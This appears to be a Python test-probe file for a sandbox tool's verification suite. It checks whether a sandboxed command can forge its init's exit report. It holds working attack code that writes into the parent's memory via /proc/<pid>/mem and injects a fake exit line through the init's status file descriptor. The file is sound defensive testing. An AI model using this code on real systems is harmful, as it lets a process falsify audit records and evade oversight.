"""Probes: the command rewrites the in-sandbox init's exit report (M13).

The init that runs the command inside the sandbox is the command's parent,
with the same uid. While it is dumpable and in the command's Landlock
domain, the command can open `/proc/<init>/mem` (FOLL_FORCE: read-only pages
too) and rewrite what the init will report, or reopen the init's status
pipe through `/proc/<init>/fd/N` and write a fake exit line ahead of the
real one. `FORGE` does both: for the compiled init it patches the exit
event's format string to `"code": 0 , ...`; for the Python init it zeroes
the interpreter's static small-int object of the command's exit code and
renames the report's "alive" key. The oracle compares `corral exec --json`
with the truth the host knows: exit 3 and one marker daemon left behind.

Under `--backend none` nothing reports an exit or leftovers, so the
attack "works" (the report field is absent).
"""

from __future__ import annotations

from corral.verify.model import Probe
from corral.verify.oracles import AnyOf, ReportField
from corral.verify.probes._dsl import code

__all__ = ["FORGE", "FORGE_SCRIPT", "PROBES"]

#: The attack, as stdlib-only functions (`forge(code)` returns a summary line);
#: shared by the probe and the integration tests (`FORGE_SCRIPT`).
FORGE = code("""
def _forge_find_init():
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open("/proc/" + name + "/cmdline", "rb") as fh:
                argv = fh.read().split(b"\\0")
        except OSError:
            continue
        if argv[0] == b"/run/corral/init" and len(argv) > 1:
            return int(name), "c", int(argv[1])
        if len(argv) > 4 and argv[3] == b"/run/corral/init.py":
            return int(name), "python", int(argv[4])
    return None


def _forge_maps(pid):
    out = []
    with open("/proc/" + str(pid) + "/maps") as fh:
        for line in fh:
            parts = line.split()
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            path = parts[5] if len(parts) > 5 else ""
            out.append((lo, hi, parts[1], int(parts[2], 16), path))
    return out


def _forge_patch(mem, regions, old, new):
    n = 0
    for lo, hi in regions:
        try:
            mem.seek(lo)
            data = mem.read(hi - lo)
        except OSError:
            continue
        i = data.find(old)
        while i >= 0:
            mem.seek(lo + i)
            mem.write(new)
            n += 1
            i = data.find(old, i + 1)
    return n


def _forge_mem(pid, kind, exit_code):
    maps = _forge_maps(pid)
    with open("/proc/" + str(pid) + "/mem", "r+b", buffering=0) as mem:
        if kind == "c":
            regions = [(lo, hi) for lo, hi, _, _, path in maps if path == "/run/corral/init"]
            old = b'"code": %d, "signal": %d, "alive": %d}'
            new = b'"code": 0 , "signal": 0 , "alive": 0 }'
            n = _forge_patch(mem, regions, old, new)
            old = b'"code": %d, "signal": %d}'
            return n + _forge_patch(mem, regions, old, b'"code": 0 , "signal": 0 }')
        # Small ints are static objects in the interpreter's image: find this
        # process's copy of `exit_code` and the same offset in the init.
        n = 0
        addr = id(exit_code)
        for lo, hi, _, off, path in _forge_maps("self"):
            if lo <= addr < hi and path:
                for lo2, _, _, off2, path2 in maps:
                    if path2 == path and off2 == off:
                        mem.seek(lo2 + (addr - lo) + 24)  # ob_digit[0], CPython 3.11
                        mem.write((0).to_bytes(4, "little"))
                        n += 1
                        break
                break
        writable = [(lo, hi) for lo, hi, perm, _, _ in maps if "w" in perm]
        return n + _forge_patch(mem, writable, b"alive\\0", b"alivX\\0")


def forge(exit_code):
    found = _forge_find_init()
    if found is None:
        return "FORGE no-init"
    pid, kind, status_fd = found
    out = ["FORGE", kind, "init=" + str(pid)]
    try:
        with open("/proc/" + str(pid) + "/fd/" + str(status_fd), "wb", buffering=0) as fh:
            fh.write(b'{"event": "exit", "code": 0, "signal": 0, "alive": 0}\\n')
        out.append("fd=ok")
    except OSError as exc:
        out.append("fd=denied(" + str(exc.errno) + ")")
    try:
        out.append("mem=ok(" + str(_forge_mem(pid, kind, exit_code)) + ")")
    except OSError as exc:
        out.append("mem=denied(" + str(exc.errno) + ")")
    return " ".join(out)
""")

#: `python3 -I -S forge.py [EXIT_CODE]`: run the attack and print its summary.
FORGE_SCRIPT = (
    "import os, sys\n\n"
    + FORGE
    + "\n\nprint(forge(int(sys.argv[1]) if len(sys.argv) > 1 else 3), flush=True)\n"
)

_FORGE_EXIT = FORGE + code("""
print(forge(3), flush=True)
detach(sleeper(30))
time.sleep(0.2)
sys.stdout.flush()
os._exit(3)
""")

PROBES: list[Probe] = [
    Probe(
        "audit-report-forgery",
        "audit",
        "M13",
        "the command rewrites the init's exit report through /proc/<init>/mem and its "
        "status fd, leaves a daemon and exits 3: the host still records exit 3 and >= 1 leftover",
        _FORGE_EXIT,
        AnyOf(
            (
                ReportField("exit", equals=3),
                ReportField("processes_killed_at_end", at_least=1),
            )
        ),
        grace_s=0.5,
    ),
]
